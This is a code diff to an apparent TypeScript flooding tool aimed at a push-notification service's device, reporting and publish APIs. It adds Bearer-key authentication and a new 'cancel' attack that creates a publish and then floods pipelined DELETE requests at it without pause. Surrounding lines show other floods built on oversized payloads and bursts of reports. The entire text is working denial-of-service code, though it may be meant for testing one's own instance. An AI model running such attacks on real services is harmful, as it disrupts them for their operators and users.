@@ -12,6 +12,8 @@ export interface AttackOptions {
   readonly from: readonly string[];
   readonly attack: keyof typeof attacks;
   readonly connections: number;
+  /** Of the instance, for attacks by its backend. */
+  readonly secretKey?: string;
 }
 
 export interface AttackCounts {
@@ -25,13 +27,17 @@ const counts = { sent: 0, status: {} as Record<string, number>, closed: 0 };
 const DEVICES = `/device_api/v1/instances/${options.instance}/devices/fcm`;
 const REPORTS = `/reporting_api/v2/instances/${options.instance}/events`;
 
+const PUBLISHES = `/publish_api/v1/instances/${options.instance}/publishes`;
+
 const NAMES = JSON.stringify({
   interests: Array.from({ length: 5000 }, (_, n) => `${n}-`.padEnd(164, 'x')),
 });
 
 function request(method: string, target: string, body = ''): string {
   const length = body === '' ? '' : `Content-Length: ${Buffer.byteLength(body)}\r\n`;
-  return `${method} ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${length}\r\n${body}`;
+  const { secretKey } = options;
+  const key = secretKey === undefined ? '' : `Authorization: Bearer ${secretKey}\r\n`;
+  return `${method} ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${key}${length}\r\n${body}`;
 }
 
 /** Bytes of bodies that are held: where there is no room for one, the next is tried. */
@@ -136,6 +142,23 @@ const attacks = {
         send(socket, half(id));
       },
     );
+  },
+
+  /** Publishes once on each connection, and cancels that again and again, 16 times at once. */
+  cancel() {
+    let publish: string | undefined;
+    const cancel = () => request('DELETE', `${PUBLISHES}/${publish}`);
+    const body = JSON.stringify({ interests: ['nobody'], fcm: { data: { a: 'b' } } });
+    const begin = (socket: Socket) => {
+      if (publish === undefined)
+        return send(socket, request('POST', `${PUBLISHES}/interests`, body));
+      for (let n = 0; n < 16; n++) send(socket, cancel());
+    };
+    open(begin, (socket, text) => {
+      publish ??= /"publishId":"([^"]+)"/.exec(text)?.[1];
+      if (publish === undefined) return;
+      for (const _ of text.matchAll(/HTTP\/1\.1 \d+/g)) send(socket, cancel());
+    });
   },
 
   /** Sends 32 reports at once, and as many again when they are answered. */
